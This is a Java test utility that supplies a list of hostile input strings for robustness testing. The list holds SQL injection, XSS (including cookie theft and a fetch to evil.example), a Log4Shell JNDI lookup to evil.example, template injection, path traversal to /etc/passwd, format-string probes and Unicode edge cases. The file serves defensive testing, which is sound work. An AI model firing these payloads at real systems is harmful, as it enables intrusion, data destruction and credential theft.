package no.saman.infra.testing.hostile;

import java.util.List;
import java.util.Random;

/** Text an attacker or a careless client sends: SQL, HTML, script, odd Unicode, control codes. */
public final class HostileText {

  public static final List<String> SAMPLES =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE users; --",
          "\" UNION SELECT password FROM accounts --",
          "1; SELECT SLEEP(5)",
          "1' AND EXTRACTVALUE(1, CONCAT(0x7e, VERSION())) --",
          "%' OR 1=1 #",
          "\\'; SHUTDOWN; --",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(document.cookie)>",
          "\"><svg/onload=fetch('//evil.example')>",
          "javascript:alert(1)",
          "{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "\u0000",
          "nul\u0000byte",
          "\u001b[31mred\u001b[0m",
          "\u202egnp.exe",
          "\uFEFFbom",
          "😀🏳️‍🌈👩‍👩‍👧",
          "Ærlig øl på Å",
          "\uD800",
          "\uDFFF lone",
          "\u200B\u200B\u200B",
          "ǅǈǋ ℌ ﬁ",
          "null",
          "undefined",
          "NaN",
          "-0",
          "1e999",
          "true",
          "[]",
          "{}",
          " ",
          "\t\n\r",
          "%00%27%22",
          "&lt;b&gt;",
          "AAAA%n%n%n%n",
          "SELECT * FROM information_schema.tables");

  private HostileText() {}

  public static String any(Random random) {
    return SAMPLES.get(random.nextInt(SAMPLES.size()));
  }

  /** A long text of {@code length} characters made of hostile samples. */
  public static String ofLength(Random random, int length) {
    StringBuilder out = new StringBuilder(length + 64);
    while (out.length() < length) {
      out.append(any(random)).append(' ');
    }
    out.setLength(length);
    if (Character.isHighSurrogate(out.charAt(length - 1))) {
      out.setCharAt(length - 1, 'x');
    }
    return out.toString();
  }
}
